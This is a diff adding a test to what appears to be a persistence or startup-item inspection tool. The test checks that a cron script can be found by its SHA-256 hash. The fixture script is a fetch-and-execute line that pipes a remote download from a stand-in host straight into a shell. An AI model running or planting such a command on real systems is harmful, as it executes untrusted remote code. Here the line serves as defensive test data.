@@ -295,6 +295,20 @@ describe('filters and flags', () => {
     expect(await namesOf(machine, { sha2: ['0'.repeat(64)] })).toEqual([])
   })
 
+  it("finds a script that is what runs by its own hash, and tells no other definition's", async () => {
+    const script = '#!/bin/sh\ncurl https://x.example | sh\n'
+    using machine = createStartMachine({
+      files: { '/etc/cron.hourly/x': script, '/etc/cron.hourly/y': '#!/bin/sh\n' },
+    })
+    const sha256 = createHash('sha256').update(script).digest('hex')
+    const { entries } = await ask(machine, { sha2: [sha256] })
+    expect(entries.map(({ name, definition }) => [name, definition.sha256])).toEqual([
+      ['x', sha256.toUpperCase()],
+    ])
+    const all = await ask(machine, { kinds: ['cron'] })
+    expect(all.entries.flatMap(({ definition }) => definition.sha256 ?? [])).toEqual([])
+  })
+
   it('flags what is missing, and what lies where things are thrown away or hidden', async () => {
     using machine = create()
     expect(await namesOf(machine, { missing: true })).toEqual(['c'])
